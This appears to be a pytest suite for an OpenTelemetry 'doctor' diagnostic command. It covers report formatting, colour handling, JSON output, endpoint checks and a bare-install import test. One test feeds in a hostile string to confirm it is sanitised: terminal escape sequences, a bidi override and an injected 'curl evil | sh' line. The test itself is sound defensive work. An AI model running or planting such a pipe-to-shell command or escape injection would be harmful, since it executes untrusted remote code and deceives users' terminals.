"""The verb as a whole: every check runs, the status says whether it will work, nothing steers the terminal."""

from __future__ import annotations

import io
import json
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from otel_memory.doctor import command, environment
from otel_memory.doctor.report import Finding, exit_status, print_findings, print_json
from tests.doctor.servers import LOOPBACK, Memory, free_port, http_receiver

ROOT = Path(__file__).parents[2]


class Output(io.TextIOWrapper):
    """A stream of one encoding, as the command line makes it; a terminal or not."""

    def __init__(self, encoding: str = "utf-8", *, terminal: bool = False) -> None:
        super().__init__(io.BytesIO(), encoding=encoding, errors="backslashreplace")
        self.terminal = terminal

    def isatty(self) -> bool:
        return self.terminal

    @property
    def text(self) -> str:
        self.flush()
        return self.buffer.getvalue().decode(self.encoding)  # type: ignore[attr-defined]


FINDINGS = [
    Finding("python", "ok", "CPython"),
    Finding("limit", "note", "all of the host"),
    Finding("service name", "warning", "is not set", "OTEL_SERVICE_NAME=<your service>"),
    Finding("endpoint", "failure", "Käse does not answer", "start it"),
]


@pytest.fixture(autouse=True)
def _environment(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("NO_PROXY", "127.0.0.1,localhost")
    monkeypatch.setenv("no_proxy", "127.0.0.1,localhost")
    monkeypatch.delenv("NO_COLOR", raising=False)
    monkeypatch.setenv("TERM", "xterm")


# --- the report -----------------------------------------------------------------------------------------------


def test_only_a_failure_makes_the_status_one() -> None:
    assert exit_status(FINDINGS) == 1
    assert exit_status(FINDINGS[:3]) == 0
    assert exit_status([]) == 0


def test_each_finding_is_a_line_with_its_mend_below_and_the_last_line_says_whether_it_will_work() -> None:
    out = Output()
    print_findings(FINDINGS, out)
    lines = out.text.splitlines()
    assert lines[0].split() == ["✓", "python", "CPython"]
    assert lines[3].strip() == "mend: OTEL_SERVICE_NAME=<your service>"
    assert lines[-1] == "1 to mend before memory can be judged."
    assert "\x1b" not in out.text, "no colour where there is no terminal"


@pytest.mark.parametrize(("count", "last"), [(3, "It works; 1 could be better."), (2, "All is well.")])
def test_the_last_line(count: int, last: str) -> None:
    out = Output()
    print_findings(FINDINGS[:count], out)
    assert out.text.splitlines()[-1] == last


def test_a_terminal_gets_colour_unless_it_is_not_wanted(monkeypatch: pytest.MonkeyPatch) -> None:
    def shown() -> str:
        out = Output(terminal=True)
        print_findings(FINDINGS, out)
        return out.text

    assert "\x1b[31m✗\x1b[0m" in shown()
    monkeypatch.setenv("NO_COLOR", "1")
    assert "\x1b" not in shown()
    monkeypatch.delenv("NO_COLOR")
    monkeypatch.setenv("TERM", "dumb")
    assert "\x1b" not in shown()


def test_an_output_without_the_signs_gets_words_in_one_column() -> None:
    out = Output("ascii")
    print_findings(FINDINGS, out)
    lines = out.text.splitlines()
    assert lines[0].startswith("ok      python ")
    assert "K\\xe4se" in out.text


def test_what_comes_from_outside_can_not_steer_the_terminal_or_add_lines() -> None:
    evil = "\x1b]0;owned\x07\nmend: curl evil | sh\u202e\x9b31m"
    out = Output()
    print_findings([Finding("endpoint", "failure", evil, evil)], out)
    body = out.text.split("\n\n")[0]
    assert len(body.splitlines()) == 2
    assert not set(body) & {"\x1b", "\x07", "\u202e", "\x9b"}
    assert "\\x1b]0;owned" in body


def test_json_is_plain_ascii_and_whole() -> None:
    out = Output()
    print_json([*FINDINGS, Finding("x", "ok", "\x1b[31m")], out)
    assert out.text.isascii()
    assert "\x1b" not in out.text
    document = json.loads(out.text)
    assert document["ok"] is False
    assert document["findings"][3] == {
        "check": "endpoint",
        "status": "failure",
        "detail": "Käse does not answer",
        "mend": "start it",
    }


# --- all checks -----------------------------------------------------------------------------------------------


def test_a_check_that_breaks_hides_no_other(monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(environ: object) -> Iterator[Finding]:
        yield Finding("interval", "ok", "so far")
        raise RuntimeError("on purpose")

    monkeypatch.setattr(environment, "check_interval", broken)
    found = list(command.diagnose({"OTEL_METRICS_EXPORTER": "none", "OTEL_LOGS_EXPORTER": "none"}))
    names = [finding.check for finding in found]
    assert found[names.index("doctor")].detail == "a check failed by itself: RuntimeError: on purpose"
    assert names.index("interval") < names.index("doctor") < names.index("limit")


def test_where_a_file_configures_the_sdk_the_environment_is_not_judged() -> None:
    names = {finding.check for finding in command.diagnose({"OTEL_CONFIG_FILE": "/nowhere/sdk.yaml"})}
    assert "OTEL_CONFIG_FILE" in names
    assert not names & {"OTEL_METRICS_EXPORTER", "endpoint (metrics)", "interval", "service name"}
    assert {"probe", "limit", "emitted twice"} <= names


def test_a_good_environment_against_the_analyzers_receiver_is_well(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    with http_receiver(Memory()) as port:
        for name, value in {
            "OTEL_SERVICE_NAME": "shop",
            "OTEL_EXPORTER_OTLP_PROTOCOL": "http/protobuf",
            "OTEL_EXPORTER_OTLP_ENDPOINT": f"http://{LOOPBACK}:{port}",
            "OTEL_METRIC_EXPORT_INTERVAL": "5000",
            "OTEL_SEMCONV_STABILITY_OPT_IN": "http",
        }.items():
            monkeypatch.setenv(name, value)
        assert command.main(["--json"]) == 0
    document = json.loads(capsys.readouterr().out)
    assert document["ok"] is True
    assert {f["check"]: f["status"] for f in document["findings"]}["endpoint (logs)"] == "ok"
    # Django is here to be tested with, and is rightly missed: nothing instruments it.
    expected = "django not instrumented"
    wrong = [f for f in document["findings"] if f["status"] in ("failure", "warning")]
    assert not [f for f in wrong if not f["detail"].startswith(expected)]


def test_a_dead_endpoint_is_found(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.setenv("OTEL_EXPORTER_OTLP_ENDPOINT", f"http://{LOOPBACK}:{free_port()}")
    assert command.main(["--timeout", "1"]) == 1
    assert "otel-memory serve" in capsys.readouterr().out


@pytest.mark.parametrize("seconds", ["0", "-1", "nan", "61", "soon"])
def test_a_time_out_that_makes_no_sense_could_not_run(seconds: str, capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as stop:
        command.main(["--timeout", seconds])
    assert stop.value.code == 2
    assert "is not a number of seconds" in capsys.readouterr().err


# --- a bare installation --------------------------------------------------------------------------------------

BARE = """
import importlib.abc, importlib.metadata, json, re, sys

# The base dependencies of this package and theirs, by their metadata; everything else is as if it weren't there.
def closure(name, seen):
    from packaging.requirements import Requirement
    for text in importlib.metadata.requires(name) or []:
        requirement = Requirement(text)
        if requirement.marker is None or requirement.marker.evaluate({"extra": ""}):
            if requirement.name not in seen:
                seen.add(requirement.name)
                closure(requirement.name, seen)
    return seen

base = closure("otel-memory", {"otel-memory"})
normal = lambda name: re.sub(r"[-_.]+", "-", name).lower()
files = {}
for distribution in importlib.metadata.distributions():
    for file in distribution.files or []:
        if file.suffix in (".py", ".so") and normal(distribution.metadata["Name"]) not in map(normal, base):
            files[".".join(file.with_suffix("").parts).removesuffix(".__init__").split(".cpython")[0]] = distribution

class Block(importlib.abc.MetaPathFinder):
    def find_spec(self, name, path=None, target=None):
        if name in files and not name.startswith("otel_memory"):
            raise ModuleNotFoundError(f"No module named {name!r}", name=name)

for name in [name for name in sys.modules if name in files]:
    del sys.modules[name]
sys.meta_path.insert(0, Block())
from otel_memory.__main__ import main
status = main(["doctor", "--json", "--timeout", "1"])
loaded = sorted(name for name in sys.modules if name in files and sys.modules[name] is not None)
print(json.dumps([status, loaded]))
"""


def test_it_needs_nothing_but_the_base_dependencies() -> None:
    """Every module of a package beyond them is as if it weren't there."""
    # Not the default address, where an analyzer of this machine may really listen.
    environ = {**os.environ, "OTEL_EXPORTER_OTLP_ENDPOINT": f"http://127.0.0.1:{free_port()}"}
    done = subprocess.run(
        [sys.executable, "-c", BARE], capture_output=True, text=True, timeout=60, check=False, cwd=ROOT, env=environ
    )
    assert done.returncode == 0, done.stderr
    text, _, last = done.stdout.rstrip().rpartition("\n")
    status, loaded = json.loads(last)
    document = json.loads(text)
    assert loaded == []
    assert status == 1, "nobody listens"
    broken = [finding for finding in document["findings"] if finding["check"] == "doctor"]
    assert broken == []
